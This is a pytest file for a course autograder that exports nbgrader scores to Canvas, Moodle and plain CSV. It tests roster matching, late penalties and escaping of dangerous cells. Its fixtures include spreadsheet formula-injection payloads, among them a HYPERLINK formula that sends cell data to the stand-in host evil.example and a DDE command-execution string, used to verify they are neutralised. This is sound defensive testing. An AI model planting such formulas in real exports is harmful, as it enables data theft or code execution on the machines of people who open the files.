"""Scores for Canvas, Moodle and spreadsheets: read back as those read them."""

from __future__ import annotations

import csv
import datetime
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from class_work import NAME, WRONG, answered, give_gradebook, hand_in, small_chapter
from fake_grader import make_fake_grader
from in_process import InProcess
from nbgrader.api import Gradebook
from traitlets.config import Config

from autograder.cli import main
from autograder.course import Chapter
from autograder.errors import UserError
from autograder.grading import class_list, csv_cells, export, recording
from autograder.grading.demo import released
from autograder.grading.grade_command import Options, grade_class
from autograder.grading.scores import read_scores

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"see")'
# id: last name, first name, email
PEOPLE = {
    "007": ("Bond, Jr.", 'James "Jim"', "james@example.edu"),
    "0012": ("Ångström", "Søren\nLinus", "soren@example.edu"),
    "student-001": ("李", "小龍", "li@example.edu"),
    "student-002": (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1)"),
    "student-003": ("-Dash", "\t=1+1", "dash@example.edu"),
}
SCORES = {"007": 5.0, "0012": 3.0, "student-001": 2.0, "student-002": 5.0, "student-003": 0.0}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Chapter:
    """A graded class with names as people have them, and as attackers do."""
    root = tmp_path_factory.mktemp("course")
    chapter = small_chapter(root)
    give_gradebook(root)
    page = released(chapter)
    adds_two, mean = WRONG["double"]["adds_two"][1], WRONG["total"]["takes_the_mean"][1]
    hand_in(root / "class", "007", answered(page, written="Because."))
    hand_in(root / "class", "0012", answered(page, double=adds_two))
    hand_in(root / "class", "student-001", answered(page, total=mean))
    hand_in(root / "class", "student-002", answered(page))
    hand_in(root / "class", "student-003", page)
    options = Options(out=root, sandbox="none")
    grade_class(chapter, root / "class", options, make_fake_grader, InProcess)
    with book(chapter) as gradebook:
        for student, (last, first, email) in PEOPLE.items():
            gradebook.update_or_create_student(
                student, last_name=last, first_name=first, email=email
            )
        gradebook.update_or_create_student("never-handed-in", last_name="Absent")
    return chapter


def book(chapter: Chapter) -> Gradebook:
    return Gradebook(recording.default_db(chapter.course.root))


def run(chapter: Chapter, out: Path, *words: str | Path) -> int:
    root = str(chapter.course.root)
    return main(["export", *map(str, words), "--out", str(out), "--course", root])


def rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream, strict=True))


def table(path: Path) -> list[dict[str, str]]:
    first, *others = rows(path)
    return [dict(zip(first, row, strict=True)) for row in others]


CANVAS = '''Student,ID,SIS User ID,SIS Login ID,Section,A small chapter (4711),Current Score
,,,,,Manual Posting,
    Points Possible,,,,,7,(read only)
"Bond, Jr., James ""Jim""",101,00070,007,Monday,,
"Ångström, Søren",102,00012,0012,Monday,,
"=""=HYPERLINK(1)""",103,00003,STUDENT-002,"=A1",,
"Li, 小龍",104,=1+1,student-001,Tuesday,,
"Nobody, Ann",105,00009,student-009,Tuesday,,
"Student, Test",,,test,Tuesday,,
'''


def test_canvas_gets_back_its_own_lines_with_scores(graded, tmp_path, capsys):
    """Headings, ids and the assignment's number as Canvas exported them, in the order it wants."""
    roster = tmp_path / "canvas.csv"
    roster.write_text(CANVAS, encoding="utf-8-sig")  # as Canvas may write it
    out = tmp_path / "out.csv"
    assert run(graded, out, NAME, "--format", "canvas", "--students", roster) == 1
    head, points, *students = rows(out)
    assert head[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert head[5:] == ["A small chapter (4711)"]
    assert points == ["    Points Possible", "", "", "", "", "7"]
    assert {row[3]: row[5] for row in students} == {
        "007": "5",
        "0012": "3",
        "student-001": "2",
        "STUDENT-002": "5",
    }
    by_id = {row[1]: row for row in students}
    assert by_id["101"][0] == 'Bond, Jr., James "Jim"' and by_id["101"][2] == "00070"
    assert by_id["103"][0].startswith("'=") and by_id["103"][4] == "'=A1"
    assert by_id["104"][2] == "'=1+1", "Canvas knows the line by its ID"
    said = capsys.readouterr().out
    assert "joined by SIS Login ID: 4 students" in said
    assert "not in the class list, so left out (1): student-003" in said
    assert "in the class list, but nothing was handed in (1): student-009" in said
    assert "cannot know" not in said
    assert f"{NAME}: 1 answer not graded by a person yet" in said


def test_canvas_without_a_class_list_gets_login_ids_and_never_a_made_up_id(graded, tmp_path):
    """Canvas reads the digits that an ID begins with, so 007 there would be somebody else."""
    out = tmp_path / "out.csv"
    assert run(graded, out, "--format", "canvas") == 0
    lines = {row["SIS Login ID"]: row for row in table(out)[1:]}
    assert {who: float(row[NAME]) for who, row in lines.items()} == SCORES
    assert {row["ID"] for row in lines.values()} == {""}
    assert lines["0012"]["Student"] == "Ångström, Søren\nLinus"


def test_a_canvas_file_has_no_byte_order_mark(graded, tmp_path):
    run(graded, tmp_path / "out.csv", "--format", "canvas")
    assert (tmp_path / "out.csv").read_bytes().startswith(b"Student,ID,")
    run(graded, tmp_path / "excel.csv", "--format", "csv", "--bom")
    assert (tmp_path / "excel.csv").read_bytes().startswith(b"\xef\xbb\xbfassignment,")


MOODLE = """First name,Last name,ID number,Email address,Groups
James,Bond,007,James@example.edu,
Søren,Ångström,0012,soren@example.edu,A
,,=1+1,,
小龍,李,student-001,li@example.edu,"B, C"
"""


def test_moodle_gets_lines_of_users_that_it_knows_and_feedback_beside_grades(
    graded, tmp_path, capsys
):
    roster = tmp_path / "moodle.csv"
    roster.write_text(MOODLE, encoding="utf-8")
    out = tmp_path / "out.csv"
    words = ["--format", "moodle", "--students", roster, "--heading", f"{NAME}=Week 1"]
    assert run(graded, out, *words) == 1
    found = table(out)
    assert list(found[0]) == [
        *("ID number", "First name", "Last name", "Week 1", "Week 1 (Feedback)")
    ]
    # one unknown user, and Moodle gives the whole file up
    assert {row["ID number"]: row["Week 1"] for row in found} == {
        "007": "5",
        "0012": "3",
        "student-001": "2",
    }
    second = next(row for row in found if row["ID number"] == "0012")
    assert second["Week 1 (Feedback)"] == (
        f"double 0/2: {WRONG['double']['adds_two'][0]}; total 3/3"
    )
    assert "left out (2): student-002, student-003" in capsys.readouterr().out


def test_moodle_may_know_students_by_another_column_than_the_gradebook_does(graded, tmp_path):
    roster = tmp_path / "moodle.csv"
    roster.write_text(
        "First name,Surname,Username,matriculation\nJames,Bond,jbond,007\n", encoding="utf-8"
    )
    out = tmp_path / "out.csv"
    run(graded, out, "--format", "moodle", "--students", roster, "--match", "matriculation")
    assert [row["Username"] for row in table(out)] == ["jbond"]


def test_the_plain_file_has_nbgraders_columns_and_survives_every_name(graded, tmp_path):
    out = tmp_path / "out.csv"
    assert run(graded, out, "--format", "csv") == 0
    found = {row["student_id"]: row for row in table(out)}
    assert {who: float(row["score"]) for who, row in found.items()} == SCORES
    for student, (last, first, _) in PEOPLE.items():
        row = found[student]
        assert row["last_name"] in (last, f"'{last}") and row["first_name"] in (first, f"'{first}")
    assert found["student-002"]["email"] == "'@SUM(1)"
    assert found["007"]["max_score"] == "7" and found["007"]["ungraded_answers"] == "1"


@pytest.mark.parametrize("format_", export.FORMATS)
def test_no_cell_can_run_in_a_spreadsheet(format_, graded, tmp_path):
    out = tmp_path / "out.csv"
    run(graded, out, "--format", format_)
    for row in rows(out):
        assert not [cell for cell in row if csv_cells.runs(cell)]


def test_missing_work_is_blank_or_zero(graded, tmp_path):
    out = tmp_path / "out.csv"
    run(graded, out, "--format", "csv")
    assert "never-handed-in" not in {row["student_id"] for row in table(out)}
    run(graded, out, "--format", "csv", "--missing", "zero")
    absent = [row for row in table(out) if row["student_id"] == "never-handed-in"]
    assert [(row["score"], row["max_score"]) for row in absent] == [("0", "7")]
    roster = tmp_path / "canvas.csv"
    roster.write_text(CANVAS, encoding="utf-8")
    run(graded, out, "--format", "canvas", "--missing", "zero", "--students", roster)
    lines = {row["SIS Login ID"]: row for row in table(out)[1:]}
    assert lines["student-009"]["A small chapter (4711)"] == "0"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        (" =1+1", "' =1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1＋1", "'＝1＋1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("-5.25", "-5.25"),
        ("+49", "+49"),
        ("007", "007"),
        ("O'Hara", "O'Hara"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_would_run_are_made_text_and_numbers_stay_numbers(text, written):
    assert csv_cells.harmless(text) == written


@pytest.mark.parametrize(
    ("points", "text"), [(2.0, "2"), (1 / 3, "0.3333"), (-1.5, "-1.5"), (100, "100"), (-0.0, "0")]
)
def test_points_are_written_plainly(points, text):
    assert csv_cells.number(points) == text


# --------------------------------------------------------------------------------- class lists


def read_list(tmp_path: Path, text: str) -> class_list.ClassList:
    path = tmp_path / "list.csv"
    path.write_text(text, encoding="utf-8")
    return class_list.read(path)


def test_zeros_at_the_beginning_of_an_id_count(tmp_path):
    known = read_list(tmp_path, "Username;Name\n7;Seven\n07;Zero seven\n")
    matched = class_list.match(known, ["007", "07"])
    assert {who: line["Name"] for who, line in matched.lines.items()} == {"07": "Zero seven"}
    assert matched.not_listed == ["007"] and matched.not_graded == ["7"]


def test_capitals_do_not_count_unless_ids_differ_in_nothing_else(tmp_path):
    known = read_list(tmp_path, "Username,Name\nAda,big\nada,small\nBOB,bob\n")
    matched = class_list.match(known, ["ada", "Ada", "bob"])
    assert {w: line["Name"] for w, line in matched.lines.items()} == {
        "ada": "small",
        "Ada": "big",
        "bob": "bob",
    }


def test_an_id_on_two_lines_is_given_to_nobody(tmp_path):
    known = read_list(tmp_path, "Username,Name\nada,one\nada,two\nbob,bob\n")
    matched = class_list.match(known, ["ada", "bob"])
    assert list(matched.lines) == ["bob"]
    assert matched.twice == ["ada"] and matched.not_listed == ["ada"]


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", "is empty"),
        (b"Name\nAda\n", "columns looked at: none of"),
        (b"Username\nsomebody\n", "no student of the gradebook"),
        (b"Username\n\xff\xfe\n", "is not UTF-8"),
        (b'Username\n"open\n', "is not CSV"),
    ],
)
def test_a_class_list_that_cannot_be_used_is_explained(content, problem, graded, tmp_path, capsys):
    roster = tmp_path / "list.csv"
    roster.write_bytes(content)
    out = tmp_path / "out.csv"
    assert run(graded, out, "--format", "canvas", "--students", roster) == 2
    assert problem in capsys.readouterr().err
    assert not out.exists()


def test_mistakes_in_the_call_are_explained(graded, tmp_path, capsys):
    for words, problem in (
        (["--format", "canvas", "--heading", "nonsense"], "--heading wants CHAPTER=TEXT"),
        (["01_other", "--format", "canvas"], "the gradebook has no 01_other"),
        (["--format", "csv", "--students", tmp_path / "none.csv"], "cannot be read"),
    ):
        assert run(graded, tmp_path / "out.csv", *words) == 2
        assert problem in capsys.readouterr().err
    assert run(graded, tmp_path / "no" / "folder.csv", "--format", "csv") == 2
    assert "cannot be written" in capsys.readouterr().err


# ------------------------------------------------------------- nbgrader, late work, a person's grades


def test_nbgraders_own_command_takes_the_exporters(graded, tmp_path):
    out = tmp_path / "out.csv"
    done = subprocess.run(
        [sys.executable, "-m", "nbgrader", "export", "--to", str(out)]
        + ["--exporter=autograder.grading.export.CanvasExporter", f"--assignment=['{NAME}']"]
        + [f"--db={recording.default_db(graded.course.root)}"],
        cwd=tmp_path,
        env={**os.environ, "OMP_NUM_THREADS": "1"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert {r["SIS Login ID"]: float(r[NAME]) for r in table(out)[1:]} == SCORES


PENALTY = """
from nbgrader.plugins import LateSubmissionPlugin


class HalfAPointAnHour(LateSubmissionPlugin):
    def late_submission_penalty(self, student_id, score, total_seconds_late):
        return 0.5 * (total_seconds_late // 3600)
"""


def make_late_class(root: Path, settings: str) -> Chapter:
    """Two students, one of whom comes three hours late, and a chapter with a due date."""
    chapter = small_chapter(root)
    give_gradebook(root)
    (root / "nbgrader_config.py").write_text(f"c = get_config()\n{settings}\n")
    with book(chapter) as gradebook:
        gradebook.add_assignment(NAME, duedate=datetime.datetime(2030, 1, 1, 12))
    for student, time in (("in-time", "11:59:00"), ("too-late", "15:00:00")):
        hand_in(root / "class" / student, NAME, answered(released(chapter)))
        (root / "class" / student / NAME / "timestamp.txt").write_text(f"2030-01-01 {time} UTC")
    grade(chapter)
    return chapter


@pytest.fixture
def late_class(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Chapter:
    """A class graded with a penalty plug-in of the instructor's own."""
    (tmp_path / "penalty.py").write_text(PENALTY)
    monkeypatch.syspath_prepend(str(tmp_path))
    return make_late_class(
        tmp_path, 'c.AssignLatePenalties.plugin_class = "penalty.HalfAPointAnHour"'
    )


def grade(chapter: Chapter, **options) -> None:
    root = chapter.course.root
    grade_class(
        chapter,
        root / "class",
        Options(out=root, sandbox="none", **options),
        make_fake_grader,
        InProcess,
    )


def test_a_late_penalty_of_nbgraders_plugin_is_in_the_exported_score(late_class, tmp_path):
    with book(late_class) as gradebook:
        scores = read_scores(gradebook, NAME)
        submission = gradebook.find_submission(NAME, "too-late")
        assert submission.timestamp == datetime.datetime(2030, 1, 1, 15)
        assert scores["too-late"].counted == submission.score - submission.late_submission_penalty
    assert (scores["too-late"].raw, scores["too-late"].penalty) == (5.0, 1.5)
    assert scores["in-time"].counted == 5.0
    for name in export.FORMATS:
        out = tmp_path / f"{name}.csv"
        assert run(late_class, out, "--format", name) == 0
        text = out.read_text(encoding="utf-8")
        assert "3.5" in text
    assert "Late: 1.5 points taken off." in (tmp_path / "moodle.csv").read_text()


def test_nbgraders_own_penalty_takes_all_points_and_due_dates_may_change(tmp_path):
    late = make_late_class(tmp_path, 'c.LateSubmissionPlugin.penalty_method = "zero"')
    with book(late) as gradebook:
        assert read_scores(gradebook, NAME)["too-late"].counted == 0
        assert read_scores(gradebook, NAME)["in-time"].counted == 5
        later = datetime.datetime(2030, 1, 2)
        gradebook.update_or_create_assignment(NAME, duedate=later)
    grade(late, force=True)
    with book(late) as gradebook:
        assert read_scores(gradebook, NAME)["too-late"].counted == 5


def test_a_persons_grade_and_comment_stay_when_other_answers_change(late_class, tmp_path):
    """nbgrader's rule: the grade stays and counts, and formgrader asks to look at it again."""
    with book(late_class) as gradebook:
        grade_ = gradebook.find_grade("written_why", NAME, NAME, "in-time")
        grade_.manual_score, grade_.extra_credit, grade_.needs_manual_grade = 1.5, 0.5, False
        gradebook.find_grade("test_total", NAME, NAME, "in-time").manual_score = 1.0
        comment = gradebook.find_comment("written_why", NAME, NAME, "in-time")
        comment.manual_comment = "Nice, =but why?"
        gradebook.db.commit()

    def kept() -> tuple:
        with book(late_class) as gradebook:
            found = gradebook.find_grade("written_why", NAME, NAME, "in-time")
            comment = gradebook.find_comment("written_why", NAME, NAME, "in-time")
            said = (found.manual_score, found.extra_credit, comment.manual_comment)
            return (*said, read_scores(gradebook, NAME)["in-time"])

    grade(late_class)  # nothing changed
    assert kept()[3].counted == 2 + 1 + 1.5 + 0.5

    page = answered(released(late_class), double=WRONG["double"]["adds_two"][1])
    hand_in(late_class.course.root / "class" / "in-time", NAME, page)
    grade(late_class)
    assert kept()[:3] == (1.5, 0.5, "Nice, =but why?")
    assert kept()[3].counted == 0 + 1 + 1.5 + 0.5
    assert kept()[3].review == 2
    grade(late_class, force=True)
    assert kept()[:3] == (1.5, 0.5, "Nice, =but why?")
    assert kept()[3].counted == 0 + 1 + 1.5 + 0.5

    run(late_class, tmp_path / "out.csv", "--format", "moodle")
    feedback = {r["Username"]: r[f"{NAME} (Feedback)"] for r in table(tmp_path / "out.csv")}
    assert feedback["in-time"].endswith("Nice, =but why?")


def test_scores_are_those_of_nbgrader(graded):
    with book(graded) as gradebook:
        ours = {who: score.counted for who, score in read_scores(gradebook, NAME).items()}
        theirs = {row["student"]: row["score"] for row in gradebook.submission_dicts(NAME)}
    assert ours == theirs == SCORES


def test_an_empty_gradebook_has_nothing_to_export(tmp_path):
    give_gradebook(tmp_path)
    exporter = export.PlainExporter(config=Config(), to=str(tmp_path / "out.csv"))
    with Gradebook(recording.default_db(tmp_path)) as gradebook:
        with pytest.raises(UserError, match="nobody has a grade"):
            exporter.export(gradebook)
    assert not (tmp_path / "out.csv").exists()


def test_what_a_csv_reader_makes_of_every_cell_is_what_was_written():
    cells = ["a,b", 'say "x"', "two\nlines", "two\r\nlines", "لغة", " spaces ", ""]
    stream = io.StringIO(newline="")
    csv.writer(stream).writerow([csv_cells.harmless(cell) for cell in cells])
    assert next(csv.reader(io.StringIO(stream.getvalue(), newline=""), strict=True)) == cells
